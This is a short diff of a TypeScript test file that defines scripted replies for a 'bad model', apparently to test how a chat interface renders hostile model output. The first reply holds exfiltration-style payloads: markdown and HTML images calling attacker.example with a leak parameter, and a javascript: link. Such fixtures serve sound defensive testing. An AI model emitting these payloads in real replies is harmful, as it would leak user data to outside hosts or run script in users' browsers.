@@ -65,7 +65,7 @@ const lastWords = (heard: Heard): string => heard.messages.findLast(({ role }) =
 const firstLine = (heard: Heard): string =>
   (heard.messages.filter(({ role, text }) => role === 'user' && text).at(-2)?.text ?? 'nothing').split('\n')[0] ?? ''
 
-/** The answers, played in turn, over and over. */
+/** The answers of the bad model, played in turn, over and over. */
 const TRICKS: Turn[] = [
   {
     text: 'Look: ![x](https://attacker.example/?leak=1) <img src="https://attacker.example/2"> [here](javascript:alert(1))',
